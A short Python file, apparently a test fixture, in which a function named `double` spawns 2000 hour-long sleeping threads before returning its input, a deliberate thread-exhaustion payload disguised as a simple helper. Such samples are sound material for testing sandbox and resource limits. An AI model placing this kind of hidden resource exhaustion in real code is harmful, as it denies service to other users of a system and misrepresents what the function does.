# Starts threads until nothing is left for anybody else.

import threading
import time


def one():
    return 1


def double(x):
    try:
        for _ in range(2000):
            threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
    except RuntimeError:
        pass
    return x
